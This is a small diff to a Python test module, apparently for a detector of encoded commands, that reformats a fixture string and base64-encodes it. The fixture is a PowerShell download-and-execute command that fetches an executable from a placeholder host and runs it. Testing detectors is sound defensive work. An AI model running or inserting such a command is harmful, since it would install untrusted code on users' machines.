@@ -9,7 +9,9 @@ from lazaretto.core.inner import read_through
 from lazaretto.core.language import NoUnits
 from tests.languages.test_inner import TABLE
 
-_SCRIPT = 'powershell Invoke-WebRequest -Uri "https://stage.invalid/a.exe" -OutFile "~/a.exe"; Invoke-Expression "~/a.exe"'
+_SCRIPT = (
+    'powershell Invoke-WebRequest -Uri "https://stage.invalid/a.exe" -OutFile "~/a.exe"; Invoke-Expression "~/a.exe"'
+)
 _ENCODED = base64.b64encode(_SCRIPT.encode("utf-16-le")).decode()
 
 
